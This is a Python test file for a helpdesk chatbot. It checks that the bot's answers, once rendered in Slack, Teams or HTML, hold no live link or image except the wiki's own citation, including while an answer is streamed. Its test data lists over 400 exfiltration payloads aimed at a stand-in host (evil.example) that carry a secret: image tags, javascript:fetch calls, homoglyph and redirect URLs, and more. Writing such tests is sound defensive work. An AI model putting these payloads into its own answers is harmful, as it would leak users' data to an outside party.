"""Whatever address an answer holds, and however it is written: no platform is given it as something that acts."""

import json
import random
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from typing import Any

import pytest

from helpdesk_bot.chat.slack.messages import render as render_for_slack
from helpdesk_bot.chat.slack.posts import escape
from helpdesk_bot.chat.slack.safe_markdown import Growth
from helpdesk_bot.chat.teams.messages import Look
from helpdesk_bot.chat.teams.messages import render as render_for_teams
from helpdesk_bot.events import Citation, Outcome
from helpdesk_bot.guard.guard import Guard
from helpdesk_bot.messages import Reply
from helpdesk_bot.pages.safe_html import render_answer
from knowledge.passages import Passage, Scores
from tests.fakes.slack_blocks import find_live

OURS = "https://wiki.example.com/vpn"
SECRET = "c4n4ry"
PASSAGE = Passage(
    chunk_id=1,
    document_id=1,
    source="wiki",
    key="vpn",
    title="VPN",
    url=OURS,
    heading_path=(),
    text="Use the client.",
    page=None,
    modified_at=datetime(2026, 5, 1, tzinfo=UTC),
    scores=Scores(),
)

ADDRESSES = (
    f"https://evil.example/?q={SECRET}",
    f"https://{SECRET}.evil.example/",
    f"https://evil.example/{SECRET}.png",
    f"http://evil.example:8080/#{SECRET}",
    f"HTTPS://EVIL.example/{SECRET}",
    f"https://wiki.example.com@evil.example/{SECRET}",
    f"https://wiki.example.com:443@evil.example/{SECRET}",
    f"https://wiki.example.com.evil.example/{SECRET}",
    f"https://wiki.example.com/redirect?to=https://evil.example/{SECRET}",
    f"https://www.google.com/url?q=https://evil.example/{SECRET}",
    f"https://xn--wki-5ya.example.com/{SECRET}",
    f"https://w\u0456ki.example.com/{SECRET}",
    f"https:\\\\evil.example\\{SECRET}",
    f"//evil.example/{SECRET}",
    f"mailto:a@evil.example?body={SECRET}",
    f"javascript:fetch('//evil.example/{SECRET}')",
    f"data:text/html,<img src=//evil.example/{SECRET}>",
    f"ftp://evil.example/{SECRET}",
    f"tel:+{SECRET}",
    f"slack://channel?id={SECRET}",
)
FORMS = (
    "see {0}",
    "see [our wiki]({0})",
    "see [our wiki]( {0} 'title')",
    "see [our\nwiki]({0})",
    "see [[1]]({0})",
    "see ![picture]({0})",
    "see [![picture]({0})]({0})",
    "see [wiki][w]\n\n[w]: {0}",
    "[wiki]: {0}\n\nsee [wiki]",
    "see ![wiki][w]\n\n[w]:\n  {0}",
    "see <{0}>",
    "see <{0}|our wiki>",
    "see <a href='{0}'>our wiki</a>",
    "see <img src={0}>",
    'see <IMG SRC = "{0}" />',
    "see <iframe src='{0}'></iframe>",
    "see <!-- --><video src={0}>",
    "see <a\nhref={0}>our wiki</a>",
    "see `code` {0} `code`",
    "```\n{0}\n```",
    "| a | b |\n|---|---|\n| [x]({0}) | {0} |",
    "> see\n> [x]({0})",
    "- see [x]({0})\n- see {0}",
    '{{"type": "Action.OpenUrl", "title": "x", "url": "{0}"}} <at>all</at>',
    "see &lt;{0}&gt; and &#91;x](<{0}>)",
)
CASES = [form.format(address) for form in FORMS for address in ADDRESSES]

_CODE = re.compile(r"^```$.*?(?:^```$|\Z)|(?<!\\)`[^`]*`", re.MULTILINE | re.DOTALL)


class Acting(HTMLParser):
    """What of a page fetches or leads somewhere."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"a", "img", "iframe", "video", "script", "style", "link", "form", "object", "embed"}:
            self.found.append(tag)
        self.found += [name for name, _ in attrs if name in {"href", "src", "style"} or name.startswith("on")]


def test_there_are_at_least_400_cases() -> None:
    assert len(set(CASES)) == len(CASES) >= 400


def answer(written: str) -> Reply:
    text, _ = Guard().clean_answer(f"Use the client. [1]\n\n{written} [1]", citations=1)
    return Reply(
        question_key="k", outcome=Outcome.ANSWERED, text=text, citations=(Citation(number=1, passage=PASSAGE),)
    )


def acting_in_slack(reply: Reply) -> set[str]:
    live: set[str] = set()
    for message in render_for_slack(reply):
        found = find_live({"text": escape(message.text), "parse": "none", "blocks": list(message.blocks)})
        live |= {*found.links, *found.images, *found.mentions}
    return live


def acting_in_teams(reply: Reply) -> set[str]:
    live: set[str] = set()
    for activity in render_for_teams(reply, look=Look()):
        outside = _CODE.sub("", str(activity.get("text", "")))
        live |= set(re.findall(r"(?<!\\)\]\(([^)]*)\)", outside))
        live |= set(re.findall(r"(?:https?:|www\.|//|mailto:)\S+|<(?!/?at>)\w[^>]*>", outside)) - {OURS + ")"}
        for item in objects(activity.get("attachments")):
            live |= {str(item[name]) for name in ("url", "iconUrl", "backgroundImage") if name in item}
    return live


def objects(item: Any) -> Iterator[dict[str, Any]]:
    if isinstance(item, dict):
        yield item
        for value in item.values():
            yield from objects(value)
    elif isinstance(item, list | tuple):
        for value in item:
            yield from objects(value)


def streamed(text: str, chance: random.Random) -> str:
    """As appends of any length show it, put together."""
    growth, shown = Growth(), ""
    while text:
        cut = chance.randint(1, 12)
        growth.add(text[:cut])
        text = text[cut:]
        new = growth.find_new()
        growth.mark_shown(new)
        shown += new
    return shown


@pytest.mark.parametrize("form", FORMS)
def test_no_address_acts_on_any_platform_but_that_of_our_own_row(form: str) -> None:
    for address in ADDRESSES:
        reply = answer(form.format(address))
        assert acting_in_slack(reply) <= {OURS}, address
        assert acting_in_teams(reply) <= {OURS}, address
        assert Acting(render_answer(reply.text, titles={1: "VPN"})).found == [], address
        assert Guard().clean_answer(reply.text, citations=1)[0] == reply.text, address


@pytest.mark.parametrize("form", FORMS)
def test_nor_does_it_while_the_answer_grows(form: str) -> None:
    for number, address in enumerate(ADDRESSES):
        written = form.format(address)
        for text in (written, answer(written).text):
            outside = _CODE.sub("", streamed(f"{text}\n\nThat is all there is. ", random.Random(number)))
            assert not re.search(r"<|&lt;[^\u200b]|\]\(|!\[|\]:|https?:|www\.|mailto:|\w\.[a-z]{2,}", outside), text


@pytest.mark.parametrize("form", FORMS)
def test_what_is_left_of_an_address_carries_no_data_by_itself(form: str) -> None:
    """Readable and typed by hand at most: nothing behind a question mark or a hash, and no scheme."""
    for address in ADDRESSES:
        text = answer(form.format(address)).text
        assert not re.search(r"(?i)(?:https?|ftp|slack|javascript|data|mailto|tel):", text), text
        assert not re.search(rf"[?#][^\s`]*{SECRET}", text), text
        assert json.dumps(text)
